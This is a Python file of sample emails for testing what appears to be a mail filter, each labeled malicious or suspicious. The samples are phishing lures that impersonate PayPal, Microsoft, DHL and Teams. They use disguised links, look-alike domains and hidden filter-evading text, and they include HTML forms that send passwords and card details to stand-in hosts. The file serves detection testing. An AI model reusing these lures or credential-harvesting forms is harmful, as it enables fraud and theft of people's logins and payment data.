"""Mail that is after a password: some of it is certain, some only looks like it."""

from lazaretto.demo.sample import ANA, DISPATCH, JONAS, MEI, OFFICE, File, Sample
from lazaretto.model.disposition import Disposition

MALICIOUS = Disposition.MALICIOUS
SUSPICIOUS = Disposition.SUSPICIOUS

_LOGIN_PAGE = b"""<html><head><title>Sign in to your account</title></head><body>
<form action="http://198.51.100.77/collect.php" method="post">
<p>Session expired. Sign in with your email password to view the document.</p>
<input type="email" name="u"><input type="password" name="p"><button>Sign in</button>
</form><script>document.forms[0].u.focus()</script></body></html>
"""

SAMPLES = (
    Sample(
        name="phish-paypal",
        meant=MALICIOUS,
        sender="PayPal Security <service@paypa1-resolution.example>",
        subject="Your account has been limited - verify your information within 24 hours",
        to=(ANA,),
        html=(
            "<p>Dear customer,</p><p>We noticed unusual activity. Your account has been suspended. "
            "Please verify your information within 24 hours or your account will be closed.</p>"
            '<p><a href="http://198.51.100.24/paypal/login.php">https://www.paypal.com/signin</a></p>'
        ),
        client_ip="198.51.100.24",
        helo="localhost",
    ),
    Sample(
        name="phish-mailbox",
        meant=MALICIOUS,
        sender="Microsoft 365 Support <no-reply@micros0ft-quota.example>",
        subject="ACTION REQUIRED: your mailbox is full and your password expires today",
        to=(JONAS,),
        html=(
            "<p>Your mailbox storage is full. Your password expires today.</p>"
            "<p>Verify your account now to keep the same password, or it will be deactivated.</p>"
            '<p><a href="http://office365-login.micros0ft-quota.example/owa/?user=jonas.weber@meridian.example">'
            "https://login.microsoftonline.com</a></p>"
            '<p style="font-size:0;color:#ffffff">harbour lantern rope tide sextant ledger quay lantern</p>'
        ),
        client_ip="198.51.100.25",
    ),
    Sample(
        name="phish-html-file",
        meant=MALICIOUS,
        sender="DocuSign <sign@secure-docs-portal.example>",
        subject="Completed: please review and sign invoice 88213",
        to=(MEI,),
        text="You have received a secure document. Open the attachment and sign in to view it.\n",
        files=(File("Invoice_88213.html", "text/html", _LOGIN_PAGE),),
        client_ip="198.51.100.26",
    ),
    Sample(
        name="phish-parcel",
        meant=MALICIOUS,
        sender="DHL Express <tracking@dhl-parcel-hold.example>",
        subject="Ihr Paket wartet: Zollgebühr von 1,99 EUR bezahlen",
        to=(JONAS,),
        html=(
            "<p>Sehr geehrter Kunde,</p><p>Ihr Paket konnte nicht zugestellt werden. "
            "Bitte bestätigen Sie Ihre Zahlungsdaten innerhalb von 24 Stunden.</p>"
            '<p><a href="http://xn--dh-lkc.example/zahlung/login.php">https://www.dhl.de/sendung</a></p>'
            '<form action="http://198.51.100.27/pay.php"><input name="card"><input type="password" name="pin"></form>'
        ),
        client_ip="198.51.100.27",
    ),
    Sample(
        name="phish-refused",
        meant=MALICIOUS,
        sender="Microsoft Teams <teams@microsoft-teams-voice.example>",
        subject="You have a new voice message: verify your account to listen",
        to=(DISPATCH,),
        html=(
            "<p>Your account will be suspended. Verify your password to listen to the message.</p>"
            '<p><a href="http://198.51.100.28/teams/login.html">https://teams.microsoft.com/voice</a></p>'
        ),
        client_ip="198.51.100.28",
    ),
    Sample(
        name="suspect-short-link",
        meant=SUSPICIOUS,
        sender="Paul Reed <paul.reed@staff-portal.example>",
        subject="Staff portal",
        to=(ANA,),
        text="Dear user,\n\nplease verify your account before Friday: https://bit.ly/3staffportal\n\nPaul Reed\n",
        signed_by="staff-portal.example",
    ),
    Sample(
        name="suspect-shared-file",
        meant=SUSPICIOUS,
        sender="Nora Lindqvist <nora@file-drop.example>",
        subject="A document was shared with you",
        to=(OFFICE,),
        html=(
            "<p>A confidential document was shared with you. Please verify your account to view it.</p>"
            '<p><a href="https://view-document.pages.dev/open">View document</a></p>'
        ),
        client_ip="198.51.100.41",
    ),
    Sample(
        name="suspect-look-alike",
        meant=SUSPICIOUS,
        sender="Accounts <accounts@meridiann.example>",
        subject="Updated contact list",
        to=(MEI,),
        text="Please use the new contact list from now on. Log in to see it: http://meridiann.example/contacts\n",
        signed_by="meridiann.example",
    ),
)
